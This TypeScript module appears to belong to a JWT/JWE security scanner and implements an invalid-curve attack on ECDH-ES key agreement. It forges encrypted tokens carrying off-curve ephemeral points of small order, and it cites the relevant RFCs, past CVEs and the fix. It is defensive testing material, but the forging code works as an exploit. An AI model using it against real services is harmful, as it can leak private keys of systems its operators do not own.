import type { Forgery, TokenAttack } from '../attack.ts';
import { bytesToInteger, integerToBytes, mod, modInverse, modPow } from '../big-integer.ts';
import { decodeBase64Url, decodeText, encodeBase64Url } from '../encoding.ts';
import { writeJwe } from '../jwe-writer.ts';
import { type Curve, curveOf, type Point } from '../weierstrass-curve.ts';

/** D11. */
export const invalidCurve: TokenAttack = {
  kind: 'token',
  id: 'D11',
  title: 'Key agreement with a point that is not on the curve',
  severity: 'high',
  cwe: 347,
  source: ['RFC 8725 §3.4', 'RFC 7518 §4.6'],
  how: 'With ECDH-ES the sender’s point is in the header, and the receiver multiplies it by his private key. A point off the curve lies on another one, where the result can be one of very few: whether the token decrypts then tells the private key’s remainder by a small number, and some dozens of such answers tell the key. Points of order two and three are sent, with the good token encrypted under the likely results.',
  victims: [
    { what: 'go-jose before September 2016', advisory: 'CVE-2016-9121' },
    { what: 'node-jose < 0.9.3', advisory: 'CVE-2017-16007' },
    { what: 'Nimbus JOSE+JWT < 4.36', advisory: 'CVE-2017-12974' },
  ],
  fix: 'Check that the point satisfies the equation of the curve before it is used. Platforms do it when they import the key.',
  needs: ['encryption-key'],
  expect: 'refused',
  forge: async ({ encryptionKey, good }) => {
    const curve = curves[encryptionKey?.crv ?? ''];
    if (encryptionKey?.kty !== 'EC' || curve === undefined) return [];
    const { bytes, crv } = curve;
    const points: Readonly<Record<string, Point>> = {
      'order-two': { x: 5n, y: 0n },
      'order-three': pointOfOrderThree(curve),
    };
    const toText = (value: bigint): string => encodeBase64Url(integerToBytes(value, bytes));
    const made = Object.entries(points).flatMap(([name, { x, y }]) =>
      ['A128GCM', 'A256GCM'].flatMap((enc) =>
        // The point itself, or its negative; or nothing, which some write as zero.
        [
          { name, result: x },
          { name: `${name}-to-nothing`, result: 0n },
        ].map(async ({ name: variant, result }): Promise<Forgery> => {
          const epk = { kty: 'EC', crv, x: toText(x), y: toText(y) };
          const token = await writeJwe({
            alg: 'ECDH-ES',
            enc,
            key: encryptionKey,
            plaintext: good.text,
            header: { cty: 'JWT', kid: encryptionKey.kid },
            ephemeral: { publicJwk: epk, secret: integerToBytes(result, bytes) },
          });
          const holds = (text: string): boolean => isOffCurve(curve, text);
          const proof = { kind: 'form' as const, states: 'the point in the header is not on the curve', holds };
          return { variant: `${variant}-${enc.toLowerCase()}`, token, proof };
        }),
      ),
    );
    return Promise.all(made);
  },
};

const curves: Readonly<Record<string, Curve | undefined>> = {
  'P-256': curveOf('ES256'),
  'P-384': curveOf('ES384'),
  'P-521': curveOf('ES512'),
};

/** The x of a point of order three is a root of 3x⁴ − 18x² + 12bx − 9: so b follows from x, and y from both. */
function pointOfOrderThree({ p }: Curve): Point {
  for (let x = 2n; ; x += 1n) {
    const b = mod((9n + 18n * x ** 2n - 3n * x ** 4n) * modInverse(12n * x, p), p);
    const square = mod(x ** 3n - 3n * x + b, p);
    const y = modPow(square, (p + 1n) / 4n, p);
    if ((y * y) % p === square && y !== 0n) return { x, y };
  }
}

function isOffCurve({ p, b }: Curve, token: string): boolean {
  const { epk } = JSON.parse(decodeText(token.split('.')[0] ?? '')) as {
    readonly epk: { readonly x: string; readonly y: string };
  };
  const [x, y] = [epk.x, epk.y].map((text) => bytesToInteger(decodeBase64Url(text)));
  if (x === undefined || y === undefined) return false;
  return token.split('.').length === 5 && mod(y * y - (x ** 3n - 3n * x + b), p) !== 0n;
}
